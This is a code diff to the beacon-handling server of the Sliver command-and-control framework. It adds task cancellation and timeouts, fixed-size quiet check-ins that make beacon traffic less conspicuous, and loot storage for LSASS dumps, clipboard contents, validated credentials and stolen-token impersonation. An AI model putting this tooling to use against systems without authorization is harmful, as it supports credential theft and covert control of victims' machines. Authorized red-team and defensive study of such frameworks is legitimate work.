@@ -29,11 +29,13 @@ import (
 
 	consts "github.com/bishopfox/sliver/client/constants"
 	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
 	sliverpb "github.com/bishopfox/sliver/protobuf/sliverpb"
 	"github.com/bishopfox/sliver/server/core"
 	"github.com/bishopfox/sliver/server/db"
 	"github.com/bishopfox/sliver/server/db/models"
 	"github.com/bishopfox/sliver/server/log"
+	"github.com/bishopfox/sliver/server/loot"
 	"github.com/gofrs/uuid"
 	"google.golang.org/protobuf/proto"
 	"gorm.io/gorm"
@@ -43,6 +45,13 @@ var (
 	beaconHandlerLog = log.NamedLogger("handlers", "beacons")
 )
 
+const (
+	taskTimeoutInterval = 30 * time.Second
+	// taskTimeoutGrace - Beacons send results after their tasks complete, this
+	// (plus the beacon's interval) is how long we give the results to arrive
+	taskTimeoutGrace = time.Minute
+)
+
 func beaconRegisterHandler(implantConn *core.ImplantConnection, data []byte) *sliverpb.Envelope {
 	beaconReg := &sliverpb.BeaconRegister{}
 	err := proto.Unmarshal(data, beaconReg)
@@ -81,6 +90,8 @@ func beaconRegisterHandler(implantConn *core.ImplantConnection, data []byte) *sl
 	beacon.ProxyURL = beaconReg.Register.ProxyURL
 	// beacon.ConfigID = uuid.FromStringOrNil(beaconReg.Register.ConfigID)
 	beacon.Locale = beaconReg.Register.Locale
+	beacon.DNSDiagnostics, _ = proto.Marshal(beaconReg.Register.DNSDiagnostics)
+	beacon.Snapshot, _ = proto.Marshal(beaconReg.Register.Snapshot)
 
 	beacon.Interval = beaconReg.Interval
 	beacon.Jitter = beaconReg.Jitter
@@ -99,6 +110,8 @@ func beaconRegisterHandler(implantConn *core.ImplantConnection, data []byte) *sl
 	})
 
 	go auditLogBeacon(beacon, beaconReg.Register)
+	go trackWatchdog(beaconReg.Register)
+	go trackBeaconAddress(beacon, implantConn.RemoteAddress)
 	return nil
 }
 
@@ -131,6 +144,16 @@ func beaconTasksHandler(implantConn *core.ImplantConnection, data []byte) *slive
 		if err != nil {
 			beaconHandlerLog.Errorf("failed to update checkin: %s", err)
 		}
+		if beaconTasks.Presence != nil {
+			err = db.UpdateBeaconPresenceByID(beaconTasks.ID, beaconTasks.Presence)
+			if err != nil {
+				beaconHandlerLog.Errorf("failed to update presence: %s", err)
+			}
+		}
+		beacon, err := db.BeaconByID(beaconTasks.ID)
+		if err == nil {
+			trackBeaconAddress(beacon, implantConn.RemoteAddress)
+		}
 	}()
 
 	// If the message contains tasks then process it as results
@@ -144,9 +167,31 @@ func beaconTasksHandler(implantConn *core.ImplantConnection, data []byte) *slive
 		return nil
 	}
 
+	checkinLock := beaconCheckinCache.Mutex(beaconTasks.ID)
+	checkinLock.Lock()
+	defer checkinLock.Unlock()
+	if cached, ok := beaconCheckinCache.Get(beaconTasks.ID, beaconTasks.MessageID); ok {
+		beaconHandlerLog.Infof("Beacon %s re-polled check-in %d, resending response", beaconTasks.ID, beaconTasks.MessageID)
+		return cached
+	}
+
 	beaconHandlerLog.Infof("Beacon %s requested pending task(s)", beaconTasks.ID)
 
-	// Pending tasks are ordered by their creation time.
+	// Tasks canceled after they were sent are canceled by the beacon
+	cancel := []int64{}
+	cancelTasks, err := db.CancelPendingBeaconTasksByBeaconID(beaconTasks.ID)
+	if err != nil && !errors.Is(err, gorm.ErrRecordNotFound) {
+		beaconHandlerLog.Errorf("Beacon task database error: %s", err)
+	}
+	for _, cancelTask := range cancelTasks {
+		cancel = append(cancel, cancelTask.EnvelopeID)
+		err = db.Session().Model(cancelTask).Update("cancel_pending", false).Error
+		if err != nil {
+			beaconHandlerLog.Errorf("Database error: %s", err)
+		}
+	}
+
+	// Pending tasks are ordered by their priority, then creation time.
 	pendingTasks, err := db.PendingBeaconTasksByBeaconID(beaconTasks.ID)
 	if err != nil && !errors.Is(err, gorm.ErrRecordNotFound) {
 		beaconHandlerLog.Errorf("Beacon task database error: %s", err)
@@ -171,16 +216,24 @@ func beaconTasksHandler(implantConn *core.ImplantConnection, data []byte) *slive
 			beaconHandlerLog.Errorf("Database error: %s", err)
 		}
 	}
-	taskData, err := proto.Marshal(&sliverpb.BeaconTasks{Tasks: tasks})
+	var taskData []byte
+	if len(tasks) == 0 && 0 < len(beaconTasks.Padding) {
+		// Quiet check-ins get a fixed size response when there's nothing to do
+		taskData, err = sliverpb.MarshalQuietCheckin(&sliverpb.BeaconTasks{Cancel: cancel})
+	} else {
+		taskData, err = proto.Marshal(&sliverpb.BeaconTasks{Tasks: tasks, Cancel: cancel})
+	}
 	if err != nil {
 		beaconHandlerLog.Errorf("Error marshaling beacon tasks message: %s", err)
 		return nil
 	}
 	beaconHandlerLog.Infof("Sending %d task(s) to beacon %s", len(pendingTasks), beaconTasks.ID)
-	return &sliverpb.Envelope{
+	envelope := &sliverpb.Envelope{
 		Type: sliverpb.MsgBeaconTasks,
 		Data: taskData,
 	}
+	beaconCheckinCache.Add(beaconTasks.ID, beaconTasks.MessageID, envelope)
+	return envelope
 }
 
 func beaconTaskResults(beaconID string, taskEnvelopes []*sliverpb.Envelope) *sliverpb.Envelope {
@@ -194,9 +247,13 @@ func beaconTaskResults(beaconID string, taskEnvelopes []*sliverpb.Envelope) *sli
 			beaconHandlerLog.Errorf("Error: nil db task!")
 			continue
 		}
-		dbTask.State = models.COMPLETED
+		dbTask.State = taskResultState(envelope.Data)
+		if dbTask.CancelPending {
+			// The task finished before the beacon was told to cancel it
+			db.Session().Model(dbTask).Update("cancel_pending", false)
+		}
 		dbTask.CompletedAt = time.Now()
-		dbTask.Response = envelope.Data
+		dbTask.Response = lootTaskResult(beaconID, dbTask.Request, envelope.Data)
 		err = db.Session().Model(&models.BeaconTask{}).Where(&models.BeaconTask{
 			ID: dbTask.ID,
 		}).Updates(dbTask).Error
@@ -209,6 +266,226 @@ func beaconTaskResults(beaconID string, taskEnvelopes []*sliverpb.Envelope) *sli
 			EventType: consts.BeaconTaskResultEvent,
 			Data:      eventData,
 		})
+		trackTaskResult(beaconID, dbTask)
 	}
 	return nil
 }
+
+// taskResultState - The state of a task with this result, the implant aborts
+// tasks that time out or are canceled by the operator
+func taskResultState(data []byte) string {
+	resp := &sliverpb.Task{}
+	if proto.Unmarshal(data, resp) != nil {
+		return models.COMPLETED
+	}
+	switch resp.Response.GetErrCode() {
+	case commonpb.ErrorCode_TIMEOUT:
+		return models.TIMEOUT
+	case commonpb.ErrorCode_CANCELED:
+		return models.CANCELED
+	}
+	return models.COMPLETED
+}
+
+// StartBeaconTaskTimeouts - Periodically mark sent tasks that have outlived their
+// timeout, so tasks from beacons that never return results don't stay 'sent'
+func StartBeaconTaskTimeouts() {
+	go func() {
+		for now := range time.Tick(taskTimeoutInterval) {
+			timeoutBeaconTasks(now)
+		}
+	}()
+}
+
+func timeoutBeaconTasks(now time.Time) {
+	tasks, err := db.SentBeaconTasksWithTimeout()
+	if err != nil {
+		beaconHandlerLog.Errorf("Failed to select sent tasks: %s", err)
+		return
+	}
+	for _, task := range tasks {
+		deadline := task.SentAt.Add(time.Duration(task.Timeout) + taskTimeoutGrace)
+		beacon, err := db.BeaconByID(task.BeaconID.String())
+		if err == nil {
+			deadline = deadline.Add(time.Duration(beacon.Interval + beacon.Jitter))
+		}
+		if now.Before(deadline) {
+			continue
+		}
+		beaconHandlerLog.Warnf("Beacon %s task %s timed out", task.BeaconID, task.ID)
+		task.State = models.TIMEOUT
+		task.CompletedAt = now
+		task.Response = sliverpb.TimeoutResponse(time.Duration(task.Timeout))
+		err = db.Session().Model(&models.BeaconTask{}).Where(&models.BeaconTask{
+			ID: task.ID,
+		}).Updates(task).Error
+		if err != nil {
+			beaconHandlerLog.Errorf("Error updating db task: %s", err)
+			continue
+		}
+		eventData, _ := proto.Marshal(task.ToProtobuf(false))
+		core.EventBroker.Publish(core.Event{
+			EventType: consts.BeaconTaskResultEvent,
+			Data:      eventData,
+		})
+	}
+}
+
+// trackTaskResult - Save task results that belong in the host inventory or the
+// loot store
+func trackTaskResult(beaconID string, dbTask *models.BeaconTask) {
+	reqEnvelope := &sliverpb.Envelope{}
+	err := proto.Unmarshal(dbTask.Request, reqEnvelope)
+	if err != nil {
+		return
+	}
+	switch reqEnvelope.Type {
+	case sliverpb.MsgLocalGroupsReq:
+		beacon, err := db.BeaconByID(beaconID)
+		if err != nil {
+			beaconHandlerLog.Errorf("Error finding beacon: %s", err)
+			return
+		}
+		localGroups := &sliverpb.LocalGroups{}
+		err = proto.Unmarshal(dbTask.Response, localGroups)
+		if err != nil {
+			beaconHandlerLog.Errorf("Error decoding local groups: %s", err)
+			return
+		}
+		err = db.SaveHostLocalGroups(beacon.UUID.String(), localGroups.Groups)
+		if err != nil {
+			beaconHandlerLog.Errorf("Failed to save local groups: %s", err)
+		}
+	case sliverpb.MsgSurveyReq:
+		survey := &sliverpb.Survey{}
+		if proto.Unmarshal(dbTask.Response, survey) != nil || survey.Response.GetErr() != "" {
+			return
+		}
+		beacon, err := db.BeaconByID(beaconID)
+		if err != nil {
+			beaconHandlerLog.Errorf("Error finding beacon: %s", err)
+			return
+		}
+		err = db.SaveHostSurvey(beacon.UUID.String(), survey)
+		if err != nil {
+			beaconHandlerLog.Errorf("Failed to save survey: %s", err)
+		}
+	case sliverpb.MsgValidateCredsReq:
+		validate := &sliverpb.ValidateCreds{}
+		err = proto.Unmarshal(dbTask.Response, validate)
+		if err != nil {
+			beaconHandlerLog.Errorf("Error decoding credential results: %s", err)
+			return
+		}
+		if validate.Response.GetErr() != "" {
+			return
+		}
+		err = loot.GetLootStore().SaveCredentialResults(validate.Results)
+		if err != nil {
+			beaconHandlerLog.Errorf("Failed to save credential results: %s", err)
+		}
+		core.EventBroker.Publish(core.Event{
+			EventType: consts.LootAddedEvent,
+		})
+	case sliverpb.MsgImpersonateReq:
+		impersonate := &sliverpb.Impersonate{}
+		if proto.Unmarshal(dbTask.Response, impersonate) == nil && impersonate.Response.GetErr() == "" {
+			trackImpersonation(beaconID, impersonate.Owner)
+		}
+	case sliverpb.MsgMakeTokenReq:
+		makeToken := &sliverpb.MakeToken{}
+		if proto.Unmarshal(dbTask.Response, makeToken) == nil && makeToken.Response.GetErr() == "" {
+			trackImpersonation(beaconID, makeToken.Owner)
+		}
+	case sliverpb.MsgStealTokenReq:
+		stealToken := &sliverpb.StealToken{}
+		if proto.Unmarshal(dbTask.Response, stealToken) == nil && stealToken.Response.GetErr() == "" {
+			trackImpersonation(beaconID, stealToken.Owner)
+		}
+	case sliverpb.MsgRevToSelfReq:
+		revToSelf := &sliverpb.RevToSelf{}
+		if proto.Unmarshal(dbTask.Response, revToSelf) == nil && revToSelf.Response.GetErr() == "" {
+			trackImpersonation(beaconID, "")
+		}
+	case sliverpb.MsgTokensReq:
+		tokensReq := &sliverpb.TokensReq{}
+		tokens := &sliverpb.Tokens{}
+		if proto.Unmarshal(reqEnvelope.Data, tokensReq) != nil || proto.Unmarshal(dbTask.Response, tokens) != nil {
+			return
+		}
+		if (tokensReq.Use != 0 || tokensReq.Remove != 0) && tokens.Response.GetErr() == "" {
+			owner := ""
+			for _, token := range tokens.Tokens {
+				if token.Active {
+					owner = token.Owner
+				}
+			}
+			trackImpersonation(beaconID, owner)
+		}
+	case sliverpb.MsgClipboardReq:
+		clipboardReq := &sliverpb.ClipboardReq{}
+		clipboard := &sliverpb.Clipboard{}
+		if proto.Unmarshal(reqEnvelope.Data, clipboardReq) != nil || proto.Unmarshal(dbTask.Response, clipboard) != nil {
+			return
+		}
+		if !clipboardReq.Loot || clipboard.Response.GetErr() != "" {
+			return
+		}
+		beacon, err := db.BeaconByID(beaconID)
+		if err != nil {
+			beaconHandlerLog.Errorf("Error finding beacon: %s", err)
+			return
+		}
+		err = loot.GetLootStore().SaveClipboardEntries(beacon.Hostname, clipboardReq.LootName, clipboard.Entries)
+		if err != nil {
+			beaconHandlerLog.Errorf("Failed to save clipboard entries: %s", err)
+		}
+		core.EventBroker.Publish(core.Event{
+			EventType: consts.LootAddedEvent,
+		})
+	}
+}
+
+// lootTaskResult - Save task results that are loot before the result is stored,
+// so the data is only kept in the loot store, returns the result to store
+func lootTaskResult(beaconID string, request []byte, result []byte) []byte {
+	reqEnvelope := &sliverpb.Envelope{}
+	if proto.Unmarshal(request, reqEnvelope) != nil || reqEnvelope.Type != sliverpb.MsgLsassDumpReq {
+		return result
+	}
+	lsassDumpReq := &sliverpb.LsassDumpReq{}
+	lsassDump := &sliverpb.LsassDump{}
+	if proto.Unmarshal(reqEnvelope.Data, lsassDumpReq) != nil || proto.Unmarshal(result, lsassDump) != nil {
+		return result
+	}
+	if lsassDump.Response.GetErr() != "" {
+		return result
+	}
+	beacon, err := db.BeaconByID(beaconID)
+	if err != nil {
+		beaconHandlerLog.Errorf("Error finding beacon: %s", err)
+		return result
+	}
+	_, err = loot.GetLootStore().SaveLsassDump(beacon.UUID.String(), beacon.Hostname, lsassDumpReq, lsassDump)
+	if err != nil {
+		beaconHandlerLog.Errorf("Failed to save lsass dump: %s", err)
+		lsassDump.Response = &commonpb.Response{Err: err.Error()}
+	} else {
+		core.EventBroker.Publish(core.Event{
+			EventType: consts.LootAddedEvent,
+		})
+	}
+	data, err := proto.Marshal(lsassDump)
+	if err != nil {
+		return result
+	}
+	return data
+}
+
+// trackImpersonation - Save the owner of the token the beacon is impersonating
+func trackImpersonation(beaconID string, owner string) {
+	err := db.UpdateBeaconImpersonatingByID(beaconID, owner)
+	if err != nil {
+		beaconHandlerLog.Errorf("Failed to update impersonation: %s", err)
+	}
+}